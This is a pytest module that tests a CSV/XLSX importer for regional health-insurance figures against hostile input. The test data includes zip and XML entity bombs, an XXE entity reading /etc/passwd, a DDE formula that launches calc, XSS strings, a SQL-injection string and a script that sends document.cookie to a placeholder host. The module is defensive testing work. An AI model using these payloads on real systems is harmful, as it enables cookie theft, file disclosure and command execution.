"""Hostile and broken input: every file ends in a clear message or a correct import.

Property-based (hypothesis, derandomised) and hand-made cases against the CSV/XLSX importer
and the number/period parsers: random bytes and text, mutated tables, truncated and damaged
XLSX, zip bombs (declared, real and lying sizes, sparse sheets, XML entity bombs), oversize
files, formulas, HTML/JS in names and sources, Unicode tricks (non-breaking and zero-width
characters, full-width digits, bidi controls), 100.000-row files.

"Clear message": at least one error, each in Indonesian and English, with a hint of what to
do, naming the row (and column) when it concerns a row; never the importer's last-resort
"unexpected failure" (``internal_error``). "Never a partial write": with a store, a refused
file leaves :meth:`Store.content_digest` unchanged, an accepted one stores every row.

Counts per class are collected in ``OUTCOMES``; run with ``-s`` (or set
``JKN_HOSTILE_SUMMARY=path.json``) to see them.
"""
from __future__ import annotations

import datetime as dt
import io
import itertools
import json
import os
import random
import re
import struct
import zipfile
from collections import Counter, defaultdict

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings, strategies as hs

from jkn_geo.figures import importer as M, parsing as P, shipped, store as S
from jkn_geo.figures.importer import reading as R, xlsx as X

TODAY = dt.date(2026, 11, 23)
RNG = random.Random(5)
CODES = ["18.01", "18.02", "18.03", "18.04", "18.05", "18.06"]
HYP = settings(deadline=None, database=None, derandomize=True,
               suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                      HealthCheck.function_scoped_fixture])



def hyp(n: int):
    return settings(HYP, max_examples=n)


OUTCOMES: dict[str, Counter] = defaultdict(Counter)


@pytest.fixture(scope="module", autouse=True)
def _summary():
    yield
    summary = {k: dict(v) for k, v in sorted(OUTCOMES.items())}
    summary["_total"] = dict(sum(OUTCOMES.values(), Counter()))
    print("\nhostile inputs per class (outcome: count):\n" + json.dumps(summary, indent=1))
    out = os.environ.get("JKN_HOSTILE_SUMMARY")
    if out:
        with open(out, "w") as f:
            json.dump(summary, f, indent=1)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    s = S.Store(tmp_path_factory.mktemp("hostile") / "store.duckdb")
    s.write_dataset("keep", _plain_frame())
    yield s
    s.close()


def _plain_frame():
    import pandas as pd

    return pd.DataFrame({"code": ["18"], "level": ["province"], "period": ["2025-01"], "registered": [1.0]})


# ---- helpers --------------------------------------------------------------------------------------
def assert_clear(rep) -> None:
    """A refused file: clear messages, no last-resort catch."""
    assert not rep.internal_error, [str(e) for e in rep.errors]
    assert rep.errors, "refused without a message"
    for e in rep.errors:
        assert e.message and e.message_en, e
        assert e.hint and e.hint_en, f"no advice: {e}"
        e.text("id"), e.text("en")
        if e.column is not None and e.row is None and not e.column.startswith("--"):   # a cell needs its row
            raise AssertionError(f"a column without a row: {e}")


def outcome(cls: str, rep, store=None, before=None) -> str:
    """Check the report (and the store) and count the outcome for ``cls``."""
    assert not rep.internal_error, [str(e) for e in rep.errors]
    if rep.ok:
        assert rep.frame is not None and rep.rows == len(rep.frame) > 0
        assert set(rep.frame.code) <= set(_all_codes()), "an imported row has an unknown region"
        if store is not None:
            assert rep.dataset and len(store.figures(rep.dataset)) == rep.rows
            store.delete(rep.dataset)
            assert store.content_digest() == before
        kind = "import"
    else:
        assert_clear(rep)
        if store is not None:
            assert rep.dataset is None
            assert store.content_digest() == before, "a refused file changed the store"
        kind = "message"
    OUTCOMES[cls][kind] += 1
    return kind


_CODES_CACHE: list = []


def _all_codes():
    if not _CODES_CACHE:
        from jkn_geo.geography.registry import get_registry

        reg = get_registry()
        _CODES_CACHE.extend(c for lvl in ("province", "regency", "district") for c in reg.codes(lvl))
    return _CODES_CACHE


def check(data, registry, filename="t.csv", **kw):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return M.validate(data, filename=filename, today=TODAY, registry=registry, **kw)


_SEQ = itertools.count(1)


def imp(store, data, registry, filename="t.csv", name=None, **kw):
    name = name or f"hostile-{next(_SEQ)}"
    if isinstance(data, str):
        data = data.encode("utf-8")
    return M.import_file(store, data, name=name, filename=filename, today=TODAY, registry=registry, **kw)


def base_rows(registry):
    rows = []
    for c in CODES:
        pop = registry.population(c)
        rows.append({"kode": c, "nama": registry.get(c).name, "periode": "2025-07",
                     "peserta": round(pop * 0.9), "aktif": round(pop * 0.7), "sumber": "BPJS Kesehatan"})
    return rows


def to_csv(rows, sep=";", fmt=None):
    fmt = fmt or (lambda k, v: f"{v:,}".replace(",", ".") if isinstance(v, int) else str(v))
    head = list(rows[0])
    return "\n".join([sep.join(head)] + [sep.join(fmt(k, r[k]) for k in head) for r in rows]) + "\n"


def to_xlsx(rows, formats=None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "data"
    ws.append(list(rows[0]))
    for r in rows:
        ws.append(list(r.values()))
    for cell, f in (formats or {}).items():
        ws[cell].number_format = f
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rezip(data: bytes, replace: dict[str, bytes | None], extra: dict[str, bytes] | None = None,
          compression=zipfile.ZIP_DEFLATED) -> bytes:
    """The XLSX ``data`` with some parts replaced (None drops a part) or added."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as out:
        for info in src.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    out.writestr(info.filename, replace[info.filename])
            else:
                out.writestr(info.filename, src.read(info.filename))
        for name, body in (extra or {}).items():
            out.writestr(name, body)
    return buf.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet_xml(rows_xml: str, dimension: str | None = None) -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}>{dim}<sheetData>{rows_xml}</sheetData>'
            f"</worksheet>").encode()


def istr(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def num(ref: str, v) -> str:
    return f'<c r="{ref}"><v>{v}</v></c>'


@pytest.fixture(scope="module")
def good(registry):
    rows = base_rows(registry)
    return {"rows": rows, "csv": to_csv(rows), "xlsx": to_xlsx(rows)}


def test_the_base_files_import(good, registry):
    for data, fn in ((good["csv"], "t.csv"), (good["xlsx"], "t.xlsx")):
        rep = check(data, registry, filename=fn)
        assert rep.ok, [str(e) for e in rep.errors]
        assert rep.frame.code.tolist() == CODES


# ---- random bytes and text ------------------------------------------------------------------------
@hyp(150)
@given(data=hs.binary(max_size=2048), filename=hs.sampled_from(["x.csv", "x.xlsx", "upload", "x.xls", "x.txt"]))
def test_random_bytes(registry, data, filename):
    outcome("random bytes", check(data, registry, filename=filename))


@hyp(60)
@given(tail=hs.binary(max_size=1024))
def test_random_bytes_behind_a_zip_signature(registry, tail):
    outcome("random bytes", check(b"PK\x03\x04" + tail, registry, filename="x.xlsx"))


@pytest.mark.slow
@hyp(120)
@given(text=hs.text(max_size=600))
def test_random_text(registry, text):
    outcome("random text", check(text, registry))


_CELL = hs.one_of(hs.text(max_size=12), hs.sampled_from(
    ["18.04", "1804", "Lampung Barat", "2025-07", "Juli 2025", "1.234", "97,05%", "-", "", "n/a", '"', "=1+1",
     "<b>", "１２３", "\u200b", "\u00a0", "6,3 juta", "1e9", "(12)", "Rp 1.000", "0", "999.999.999.999"]))


@hyp(120)
@given(header=hs.lists(hs.sampled_from(["kode", "nama", "periode", "peserta", "aktif", "penduduk", "cakupan",
                                        "keaktifan", "tidak_aktif", "tahun", "bulan", "provinsi", "x", ""]),
                       min_size=1, max_size=7),
       body=hs.lists(hs.lists(_CELL, max_size=8), max_size=8), sep=hs.sampled_from([";", ",", "\t"]))
def test_random_tables(registry, header, body, sep):
    text = "\n".join([sep.join(header)] + [sep.join(r) for r in body])
    outcome("random tables", check(text, registry))


# ---- mutated valid files --------------------------------------------------------------------------
@pytest.mark.slow
@hyp(100)
@given(edits=hs.lists(hs.tuples(hs.sampled_from(["flip", "insert", "delete"]), hs.integers(0, 10_000),
                                hs.integers(0, 255)), min_size=1, max_size=6))
def test_mutated_csv_message_or_whole_import(good, registry, store, edits):
    data = bytearray(good["csv"].encode())
    for op, pos, byte in edits:
        pos %= max(1, len(data))
        if op == "flip" and data:
            data[pos] = byte
        elif op == "insert":
            data.insert(pos, byte)
        elif data:
            del data[pos]
    before = store.content_digest()
    outcome("mutated CSV", imp(store, bytes(data), registry), store, before)


@pytest.mark.slow
@hyp(80)
@given(edits=hs.lists(hs.tuples(hs.integers(0, 1 << 20), hs.integers(0, 255)), min_size=1, max_size=4))
def test_damaged_xlsx_bytes(good, registry, store, edits):
    data = bytearray(good["xlsx"])
    for pos, byte in edits:
        data[pos % len(data)] = byte
    before = store.content_digest()
    rep = imp(store, bytes(data), registry, filename="x.xlsx")
    if rep.ok:     # the damage missed the content (a date stamp, padding): checksums guard the rest
        assert _frame_key(rep) == _frame_key(check(good["xlsx"], registry, filename="x.xlsx"))
    outcome("damaged XLSX", rep, store, before)


def test_truncated_xlsx(good, registry, store):
    data = good["xlsx"]
    before = store.content_digest()
    cuts = sorted({int(len(data) * k / 40) for k in range(40)} | {len(data) - 1, len(data) - 22, 4, 30})
    for cut in cuts:
        rep = imp(store, data[:cut], registry, filename="x.xlsx")
        assert outcome("truncated XLSX", rep, store, before) == "message", cut
        assert rep.errors[0].row is None
    # the same truncated file uploaded without its name
    assert outcome("truncated XLSX", imp(store, data[: len(data) // 2], registry, filename="upload"),
                   store, before) == "message"


def test_xlsx_part_with_bad_checksum_or_missing(good, registry, store):
    before = store.content_digest()
    zf = zipfile.ZipFile(io.BytesIO(good["xlsx"]))
    sheet = zf.read(SHEET)
    # same length, other content: stored uncompressed so the CRC no longer fits
    stored = rezip(good["xlsx"], {}, compression=zipfile.ZIP_STORED)
    i = stored.find(sheet[-200:])
    assert i > 0
    damaged = stored[:i] + sheet[-200:].replace(b"<v>", b"<x>", 1) + stored[i + 200:]
    rep = imp(store, damaged, registry, filename="x.xlsx")
    assert outcome("damaged XLSX", rep, store, before) == "message"
    assert "damaged" in rep.errors[0].message_en or "cannot be read" in rep.errors[0].message_en
    for part in (SHEET, "xl/workbook.xml", "[Content_Types].xml", "xl/sharedStrings.xml"):
        if part in zf.namelist():
            rep = imp(store, rezip(good["xlsx"], {part: None}), registry, filename="x.xlsx")
            outcome("damaged XLSX", rep, store, before)
    rep = imp(store, rezip(good["xlsx"], {SHEET: b"<worksheet><sheetData><row"}), registry, filename="x.xlsx")
    assert outcome("damaged XLSX", rep, store, before) == "message"
    rep = imp(store, rezip(good["xlsx"], {SHEET: b"\xff\xfe not xml at all"}), registry, filename="x.xlsx")
    assert outcome("damaged XLSX", rep, store, before) == "message"


def test_encrypted_or_old_excel(registry):
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    e = check(ole, registry, filename="x.xlsx").errors[0]
    assert "password" in e.message_en and ".xlsx" in e.hint_en
    OUTCOMES["damaged XLSX"]["message"] += 1
    assert ".xls" in check(ole, registry, filename="x.xls").errors[0].message_en
    OUTCOMES["damaged XLSX"]["message"] += 1


# ---- zip bombs and oversize files ----------------------------------------------------------------
def _patch_sizes(data: bytes, part: str, size: int) -> bytes:
    """The zip with ``part``'s uncompressed size in the central directory (and local header)
    replaced by ``size``: a part that claims to unpack to more, or less, than it does."""
    out = bytearray(data)
    name = part.encode()
    for sig, off_size in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (i := out.find(sig, start)) >= 0:
            nlen_off = 28 if sig == b"PK\x01\x02" else 26
            nlen = struct.unpack_from("<H", out, i + nlen_off)[0]
            hdr = 46 if sig == b"PK\x01\x02" else 30
            if bytes(out[i + hdr:i + hdr + nlen]) == name:
                struct.pack_into("<I", out, i + off_size, size)
            start = i + 4
    return bytes(out)


def test_zip_bomb_refused_before_anything_is_unpacked(good, registry, store, monkeypatch):
    # a real bomb: a sheet of 260 MiB of spaces packs into about 260 KB
    buf = io.BytesIO()
    src = zipfile.ZipFile(io.BytesIO(good["xlsx"]))
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for info in src.infolist():
            if info.filename != SHEET:
                out.writestr(info.filename, src.read(info.filename))
        with out.open(SHEET, "w") as f:
            f.write(b'<?xml version="1.0"?><worksheet ' + _NS.encode() + b"><sheetData>")
            chunk = b" " * (1 << 20)
            for _ in range(M.MAX_XLSX_UNPACKED_BYTES // len(chunk) + 4):
                f.write(chunk)
            f.write(b"</sheetData></worksheet>")
    bomb = buf.getvalue()
    assert len(bomb) < M.MAX_UPLOAD_BYTES

    def no_openpyxl(*a, **k):
        raise AssertionError("openpyxl was asked to open a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", no_openpyxl)
    before = store.content_digest()
    rep = imp(store, bomb, registry, filename="bomb.xlsx")
    assert outcome("zip bomb", rep, store, before) == "message"
    assert "unpacks to" in rep.errors[0].message_en and rep.errors[0].hint_en
    errs = M.check_upload(bomb, "bomb.xlsx")
    assert len(errs) == 1 and "unpacks to" in errs[0].message_en
    # a part that only claims to be huge
    claims = _patch_sizes(good["xlsx"], SHEET, 0xFFFFFFF0)
    assert outcome("zip bomb", imp(store, claims, registry, filename="x.xlsx"), store, before) == "message"
    # styles (read whole by openpyxl, like shared strings) that would unpack to more than a part may
    shared = _patch_sizes(good["xlsx"], "xl/styles.xml", M.MAX_XLSX_PART_BYTES + 1)
    rep = imp(store, shared, registry, filename="x.xlsx")
    assert outcome("zip bomb", rep, store, before) == "message" and "xl/styles.xml" in rep.errors[0].message_en
    # very many parts
    many = rezip(good["xlsx"], {}, extra={f"x/{i}.xml": b"" for i in range(M.MAX_XLSX_PARTS + 1)},
                 compression=zipfile.ZIP_STORED)
    rep = imp(store, many, registry, filename="x.xlsx")
    assert outcome("zip bomb", rep, store, before) == "message" and "parts" in rep.errors[0].message_en


def test_part_that_unpacks_to_more_than_it_declares(good, registry, store):
    """zipfile stops at the declared size and the checksum fails: a message, not a bomb."""
    zf = zipfile.ZipFile(io.BytesIO(good["xlsx"]))
    big = zf.read(SHEET).replace(b"</sheetData>", b"</sheetData>" + b"<!-- " + b"x" * 5_000_000 + b" -->")
    fat = rezip(good["xlsx"], {SHEET: big})
    lying = _patch_sizes(fat, SHEET, len(zf.read(SHEET)))
    before = store.content_digest()
    rep = imp(store, lying, registry, filename="x.xlsx")
    assert outcome("zip bomb", rep, store, before) == "message"


def test_sparse_sheet_bombs(good, registry, store, monkeypatch):
    """Cells far away and lying dimensions are not expanded into millions of empty cells."""
    before = store.content_digest()
    rows = "".join(f'<row r="{i + 2}">{istr(f"A{i + 2}", c)}{istr(f"B{i + 2}", "2025-07")}{num(f"C{i + 2}", 1000)}</row>'
                   for i, c in enumerate(CODES))
    head = f'<row r="1">{istr("A1", "kode")}{istr("B1", "periode")}{istr("C1", "peserta")}</row>'
    # a dimension claiming the whole sheet: read as the small table it is
    lying_dim = rezip(good["xlsx"], {SHEET: sheet_xml(head + rows, "A1:XFD1048576")})
    rep = imp(store, lying_dim, registry, filename="x.xlsx")
    assert outcome("zip bomb", rep, store, before) == "import"
    # one cell in the last column of the last row
    far = rezip(good["xlsx"], {SHEET: sheet_xml(head + rows + f'<row r="1048576">{num("XFD1048576", 1)}</row>')})
    rep = imp(store, far, registry, filename="x.xlsx")
    assert outcome("zip bomb", rep, store, before) == "message"
    e = rep.errors[0]
    assert e.row == 1048576 and e.column == "XFD" and "at most" in e.message_en
    # an empty far cell (no value) is nothing
    empty_far = rezip(good["xlsx"], {SHEET: sheet_xml(head + rows + '<row r="1048576"><c r="XFD1048576"/></row>')})
    assert outcome("zip bomb", imp(store, empty_far, registry, filename="x.xlsx"), store, before) == "import"
    # more rows than allowed (the limit made small to keep the test quick)
    monkeypatch.setattr(R, "MAX_ROWS", 50)                  # CSV rows (importer.reading)
    monkeypatch.setattr(X, "MAX_ROWS", 50)                  # XLSX rows (importer.xlsx)
    many = "".join(f'<row r="{i}">{num(f"A{i}", i)}</row>' for i in range(1, 200))
    rep = imp(store, rezip(good["xlsx"], {SHEET: sheet_xml(many)}), registry, filename="x.xlsx")
    assert outcome("oversize", rep, store, before) == "message"
    assert rep.errors[0].row == 51 and "too long" in rep.errors[0].message_en
    rep = imp(store, "kode;periode;peserta\n" + "18.01;2025-07;1\n" * 60, registry)
    assert outcome("oversize", rep, store, before) == "message" and rep.errors[0].row == 51


def test_xml_entity_bomb(good, registry, store):
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + f']><worksheet {_NS}><sheetData><row r="1">{istr("A1", "&lol9;")}</row></sheetData></worksheet>')
    xxe = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           f'<worksheet {_NS}><sheetData><row r="1">{istr("A1", "&e;")}</row></sheetData></worksheet>')
    before = store.content_digest()
    for body in (lol, xxe):
        rep = imp(store, rezip(good["xlsx"], {SHEET: body.encode()}), registry, filename="x.xlsx")
        assert outcome("zip bomb", rep, store, before) == "message"
        assert "root:" not in " ".join(str(e) for e in rep.errors)


def test_oversize_files_refused_without_reading_them(registry, store, tmp_path, monkeypatch):
    before = store.content_digest()
    big = b"kode;periode;peserta\n" + b"18.01;2025-07;1\n" * (M.MAX_UPLOAD_BYTES // 16 + 1)
    assert len(big) > M.MAX_UPLOAD_BYTES
    rep = imp(store, big, registry)
    assert outcome("oversize", rep, store, before) == "message"
    assert "too large" in rep.errors[0].message_en and "Split" in rep.errors[0].hint_en
    assert [e.message_en for e in M.check_upload(big, "big.csv")] == [rep.errors[0].message_en]
    assert M.check_upload(big[: M.MAX_UPLOAD_BYTES - 10], "big.csv") == []
    # a file on disk: its size is checked before it is read (a sparse 10 GB file)
    p = tmp_path / "huge.csv"
    with p.open("wb") as f:
        f.truncate(10 * 1024 ** 3)
    rep = M.import_file(store, p, today=TODAY, registry=registry)
    assert outcome("oversize", rep, store, before) == "message" and "too large" in rep.errors[0].message_en
    # a file object: only the limit (+1 byte) is read
    class Endless(io.RawIOBase):
        read_sizes: list = []

        def read(self, n=-1):
            assert n is not None and 0 < n <= M.MAX_UPLOAD_BYTES + 1, n
            self.read_sizes.append(n)
            return b"1" * n

    rep = M.import_file(store, Endless(), filename="stream.csv", today=TODAY, registry=registry)
    assert outcome("oversize", rep, store, before) == "message"
    # a very long line / cell in a CSV
    rep = imp(store, 'kode;periode;peserta\n18.01;2025-07;"' + "1" * 300_000 + "\n", registry)
    assert outcome("oversize", rep, store, before) == "message" and rep.errors[0].row == 2
    rep = imp(store, "kode;periode;peserta\n18.01;2025-07;" + "1" * 100_000 + "\n", registry)
    assert outcome("oversize", rep, store, before) == "message"
    assert (rep.errors[0].row, rep.errors[0].column) == (2, "peserta")
    rep = imp(store, "kode;periode;" + ";".join(["peserta"] * 5000) + "\n18.01;2025-07;1\n", registry)
    assert outcome("oversize", rep, store, before) in ("message", "import")


def test_blank_lines_do_not_count_but_are_bounded(registry, monkeypatch):
    rep = check("kode;periode;peserta\n" + "\n" * 5000 + "18.01;2025-07;1.000\n", registry)
    assert rep.ok and rep.frame.row_no.tolist() == [5002]
    OUTCOMES["oversize"]["import"] += 1
    monkeypatch.setattr(R, "MAX_LINES", 1000)
    rep = check("kode;periode;peserta\n" + "\n" * 5000 + "18.01;2025-07;1.000\n", registry)
    assert_clear(rep)
    assert rep.errors[0].row == 1001 and "blank" in rep.errors[0].message_en
    OUTCOMES["oversize"]["message"] += 1


# ---- formulas --------------------------------------------------------------------------------------
@pytest.mark.parametrize("formula", ["=1+1", "=SUM(A1:A9)", "+1+1", "@SUM(1)", "=HYPERLINK(\"http://x\",\"y\")",
                                     "=cmd|' /C calc'!A0", "-2+3"])
def test_csv_formulas_in_figures_are_refused_with_row_and_column(registry, store, formula):
    before = store.content_digest()
    q = formula.replace('"', '""')
    text = f'kode;periode;peserta;aktif\n18.01;2025-07;1.000;500\n18.02;2025-07;"{q}";100\n'
    rep = imp(store, text, registry)
    assert outcome("formulas", rep, store, before) == "message"
    e = rep.errors[0]
    assert (e.row, e.column) == (3, "peserta") and e.value == formula


@pytest.mark.parametrize("formula", ["=1+1", "=HYPERLINK(\"http://evil\",\"klik\")", "@SUM(1)", "+62 812"])
def test_csv_formulas_in_source_and_note_are_kept_as_text(registry, store, formula):
    before = store.content_digest()
    q = formula.replace('"', '""')
    text = f'kode;periode;peserta;sumber;catatan\n18.01;2025-07;1.000;"{q}";"{q}"\n'
    rep = imp(store, text, registry)
    assert rep.ok, [str(e) for e in rep.errors]
    f = store.figures(rep.dataset)
    assert f.source[0] == formula and f.note[0] == formula       # stored as text; exports neutralise it
    assert outcome("formulas", rep, store, before) == "import"


def _with_formulas(xlsx: bytes, cached: bool) -> bytes:
    """The XLSX with the numbers of column D (aktif) turned into formulas, with or without
    their results stored (Excel stores them, openpyxl and some generators do not)."""
    zf = zipfile.ZipFile(io.BytesIO(xlsx))
    xml = zf.read(SHEET).decode()

    def sub(m):
        ref, attrs, val = m.group(1), m.group(2), m.group(3)
        body = f"<f>D{ref[1:]}*7/9</f>" + (f"<v>{val}</v>" if cached else "")
        return f'<c r="{ref}"{attrs}>{body}</c>'

    xml2, n = re.subn(r'<c r="(E\d+)"([^>]*)>\s*<v>([^<]*)</v>\s*</c>', sub, xml)
    assert n == len(CODES), xml[:400]
    return rezip(xlsx, {SHEET: xml2.encode()})


def test_xlsx_formulas_with_and_without_stored_results(good, registry, store):
    before = store.content_digest()
    rep = imp(store, _with_formulas(good["xlsx"], cached=True), registry, filename="x.xlsx")
    assert rep.ok, [str(e) for e in rep.errors]
    assert store.figures(rep.dataset).active.tolist() == [r["aktif"] for r in good["rows"]]
    assert outcome("formulas", rep, store, before) == "import"
    rep = imp(store, _with_formulas(good["xlsx"], cached=False), registry, filename="x.xlsx")
    assert outcome("formulas", rep, store, before) == "message"
    assert len(rep.errors) == len(CODES)
    e = rep.errors[0]
    assert (e.row, e.column) == (2, "aktif") and e.value.startswith("=D2") and "Paste Special" in e.hint_en
    # a formula without a result in an ignored column does not matter
    wb = openpyxl.load_workbook(io.BytesIO(good["xlsx"]))
    wb.active["H1"] = "lain"
    wb.active["H2"] = "=A2"
    buf = io.BytesIO()
    wb.save(buf)
    assert outcome("formulas", imp(store, buf.getvalue(), registry, filename="x.xlsx"), store, before) == "import"


def test_xlsx_error_values_and_odd_numbers(good, registry, store):
    before = store.content_digest()
    for val, typ in (("#DIV/0!", "e"), ("#REF!", "e"), ("inf", "n"), ("1e999", "n"), ("nan", "n"),
                     ("9" * 5000, "n"), ("-1e308", "n"), ("abc", "n")):
        xml = zipfile.ZipFile(io.BytesIO(good["xlsx"])).read(SHEET).decode()
        xml2 = re.sub(r'<c r="D2"([^>]*)>\s*<v>[^<]*</v>', f'<c r="D2" t="{typ}"><v>{val}</v>', xml)
        assert xml2 != xml
        rep = imp(store, rezip(good["xlsx"], {SHEET: xml2.encode()}), registry, filename="x.xlsx")
        assert outcome("odd numbers", rep, store, before) == "message", val


# ---- HTML / JS in names and sources ----------------------------------------------------------------
SCRIPTS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
           "javascript:alert(1)", "<b onmouseover='x()'>Lampung</b>", "{{7*7}}", "'; DROP TABLE figures; --",
           "</td></tr><script>fetch('//x?c='+document.cookie)</script>"]


@pytest.mark.parametrize("script", SCRIPTS)
def test_script_in_region_name_is_a_message(registry, store, script):
    before = store.content_digest()
    text = f'nama;periode;peserta\n"{script.replace(chr(34), chr(34) * 2)}";2025-07;1.000\n'
    rep = imp(store, text, registry)
    assert outcome("HTML/JS", rep, store, before) == "message"
    assert rep.errors[0].row == 2 and rep.errors[0].column == "nama"


@pytest.mark.parametrize("script", SCRIPTS)
def test_script_in_source_note_and_dataset_name_is_stored_verbatim(registry, store, script):
    before = store.content_digest()
    q = script.replace('"', '""')
    text = f'kode;periode;peserta;sumber;catatan\n18.01;2025-07;1.000;"{q}";"{q}"\n'
    rep = imp(store, text, registry, name="ds " + script[:60], source=script)
    assert rep.ok, [str(e) for e in rep.errors]
    f = store.figures(rep.dataset)
    assert (f.source[0], f.note[0]) == (script, script)
    info = store.info(rep.dataset)
    assert info["source"] == script and rep.dataset == "ds " + script[:60]
    assert "keep" in store.names()          # the SQL-looking text did nothing
    assert outcome("HTML/JS", rep, store, before) == "import"


def test_script_in_headers_is_an_ignored_column(registry):
    rep = check("kode;periode;peserta;<script>alert(1)</script>\n18.01;2025-07;1.000;x\n", registry)
    assert rep.ok and rep.ignored_columns == ["<script>alert(1)</script>"]
    OUTCOMES["HTML/JS"]["import"] += 1


@pytest.mark.slow
@hyp(30)
@given(text=hs.text(hs.characters(blacklist_categories=["Cs"]), max_size=80).filter(lambda t: t.strip()),
       markup=hs.sampled_from(SCRIPTS))
def test_any_source_text_round_trips(registry, store, text, markup):
    """Whatever text a source cell holds (after invisible characters are removed) is stored as is."""
    src = (text + markup).replace("\r", " ").replace("\n", " ")
    expected = P.clean_text(src).strip()
    before = store.content_digest()
    q = src.replace('"', '""')
    rep = imp(store, f'kode;periode;peserta;sumber\n18.01;2025-07;1.000;"{q}"\n', registry)
    if rep.ok:
        got = store.figures(rep.dataset).source[0]
        assert got.strip() == expected
    outcome("HTML/JS", rep, store, before)


# ---- Unicode tricks ------------------------------------------------------------------------------
NBSP, NNBSP, ZWSP, ZWJ, WJ, BOM, SHY, RLO = "\u00a0", "\u202f", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e"
FULLWIDTH = str.maketrans("0123456789.,%-", "０１２３４５６７８９．，％－")


def _frame_key(rep):
    return rep.frame[["code", "period", "registered", "active"]].to_dict("records")


@pytest.mark.parametrize("variant", ["nbsp groups", "nnbsp groups", "zero-width in numbers", "zero-width in codes",
                                     "full-width digits", "full-width everything", "bidi in names", "bom per cell",
                                     "soft hyphen", "zero-width in header", "full-width header", "ideographic space"])
def test_unicode_variants_read_like_the_plain_file(good, registry, store, variant):
    plain = check(good["csv"], registry)
    grp = lambda v, s: f"{v:,}".replace(",", s)  # noqa: E731

    def fmt(k, v):
        if variant == "nbsp groups" and isinstance(v, int):
            return grp(v, NBSP)
        if variant == "nnbsp groups" and isinstance(v, int):
            return grp(v, NNBSP)
        if variant == "zero-width in numbers" and isinstance(v, int):
            return ZWSP + grp(v, "." + ZWJ) + WJ
        if variant == "zero-width in codes" and k == "kode":
            return v.replace(".", ZWSP + "." + ZWSP)
        if variant == "full-width digits" and k in ("peserta", "aktif", "periode"):
            return (grp(v, ".") if isinstance(v, int) else v).translate(FULLWIDTH)
        if variant == "full-width everything":
            return (grp(v, ".") if isinstance(v, int) else str(v)).translate(FULLWIDTH)
        if variant == "bidi in names" and k == "nama":
            return RLO + v + "\u202c"
        if variant == "bom per cell":
            return BOM + (grp(v, ".") if isinstance(v, int) else str(v))
        if variant == "soft hyphen" and k == "nama":
            return v[:3] + SHY + v[3:]
        if variant == "ideographic space" and isinstance(v, int):
            return grp(v, "\u3000")
        return grp(v, ".") if isinstance(v, int) else str(v)

    text = to_csv(good["rows"], fmt=fmt)
    if variant == "zero-width in header":
        text = text.replace("peserta", "pe" + ZWSP + "serta", 1).replace("kode", BOM + "ko" + ZWJ + "de", 1)
    if variant == "full-width header":
        head, rest = text.split("\n", 1)
        text = head.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "ａｂｃｄｅｆｇｈｉｊｋｌｍｎｏｐｑｒｓｔｕｖｗｘｙｚ")) + "\n" + rest
    before = store.content_digest()
    rep = imp(store, text, registry)
    assert rep.ok, [str(e) for e in rep.errors]
    assert _frame_key(rep) == _frame_key(plain)
    invisible = any(ch in text for ch in (ZWSP, ZWJ, WJ, BOM, SHY, RLO))
    assert any("invisible" in w.message_en for w in rep.warnings) == invisible
    assert outcome("Unicode", rep, store, before) == "import"


def test_unicode_in_xlsx_cells(good, registry):
    rows = [dict(r, kode=ZWSP + r["kode"], peserta=f"{r['peserta']:,}".replace(",", NBSP),
                 aktif=str(r["aktif"]).translate(FULLWIDTH)) for r in good["rows"]]
    rep = check(to_xlsx(rows), registry, filename="x.xlsx")
    assert rep.ok, [str(e) for e in rep.errors]
    assert _frame_key(rep) == _frame_key(check(good["xlsx"], registry, filename="x.xlsx"))
    OUTCOMES["Unicode"]["import"] += 1


def test_unicode_that_is_not_a_number_is_a_message(registry):
    for bad in ("١٢٣", "١.٢٣٤", "1\u20022\u20023x", "12\u0000", "𝟏𝟐𝟑x", "IV", "½"):
        rep = check(f"kode;periode;peserta\n18.01;2025-07;{bad}\n", registry)
        kind = outcome("Unicode", rep)
        if kind == "message":
            assert (rep.errors[0].row, rep.errors[0].column) == (2, "peserta")


INVISIBLE = hs.sampled_from([ZWSP, ZWJ, WJ, BOM, SHY, RLO, "\u200e", "\u200f", "\u2066", "\u2069", "\x00", "\x07"])


@hyp(80)
@given(picks=hs.lists(hs.tuples(hs.integers(0, 10_000), INVISIBLE), min_size=1, max_size=8))
def test_invisible_characters_anywhere_change_nothing(good, registry, picks):
    """Invisible characters inserted anywhere inside cells: the same figures, and a warning."""
    plain = check(good["csv"], registry)
    text = good["csv"]
    # positions inside cells only (not between a separator and the line end)
    spots = [i for i, ch in enumerate(text) if ch not in ";\n"]
    for pos, ch in sorted(picks, reverse=True):
        i = spots[pos % len(spots)]
        text = text[:i] + ch + text[i:]
    rep = check(text, registry)
    assert rep.ok, [str(e) for e in rep.errors]
    assert _frame_key(rep) == _frame_key(plain)
    assert any("invisible" in w.message_en for w in rep.warnings)
    OUTCOMES["Unicode"]["import"] += 1


